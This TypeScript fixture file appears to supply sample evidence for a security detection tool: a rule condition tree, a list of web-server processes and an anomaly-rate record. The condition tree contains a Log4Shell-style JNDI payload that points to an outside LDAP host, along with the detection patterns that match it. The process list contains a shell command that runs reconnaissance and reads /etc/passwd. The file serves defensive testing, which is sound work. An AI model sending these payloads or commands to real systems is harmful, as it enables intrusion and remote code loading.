// Proofs as detections carry them: a condition with its truths, a lineage, an expected band.

const leaf = (holds: boolean, field: string, said: string, line: number, text?: string, at = 0, end = 0) => ({ kind: "test", holds, field, name: field, said, line, ...(text === undefined ? {} : { found: { text, at, end } }) });

export const conditionProof = {
  kind: "and", holds: true, name: "", nodes: [
    { kind: "and", holds: true, name: "lookup", nodes: [{ kind: "or", holds: true, name: "", nodes: [leaf(true, "request-decoded", "contains ${jndi:", 12, "/search?q=${jndi:ldap://198.51.100.9:1389/a}", 10, 17), leaf(false, "request-decoded", "contains ${lower:", 13), leaf(false, "cs-user-agent", "contains ${jndi:", 14)], leftOut: 9 }, leaf(true, "cs-method", "is GET", 15, "GET", 0, 3)] },
    { kind: "not", holds: true, name: "scanner", node: leaf(false, "c-ip", "is in 192.0.2.0/24", 18) },
  ],
};

export const processProof = (nowMs: number) => ["/bin/sh -c id;uname -a;cat /etc/passwd", "/usr/bin/php-fpm8.3 pool www", "nginx: worker process", "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io"].map((commandLine, index) => ({
  id: `node-eu-3 ${4711 - index * 311}`, pid: String(4711 - index * 311), image: ["/bin/sh", "/usr/bin/php-fpm8.3", "/usr/sbin/nginx", "/usr/bin/containerd-shim-runc-v2"][index], commandLine, user: index < 3 ? "www-data" : "root", at: nowMs - (22 + index * 400) * 60_000,
}));

export const rateProof = (nowMs: number) => ({ value: 412, direction: "higher", expected: { low: 2, middle: 9, high: 31 }, quantile: { group: "Sundays 11:00-12:00 UTC", below: 1, upTo: 1, bins: 480 }, lastSimilarDay: { at: nowMs - 7 * 86_400_000, mean: 8.4, most: 29 }, history: { days: 41, coverage: 0.98 }, surprise: 44.2, likelihood: 0.9999 });
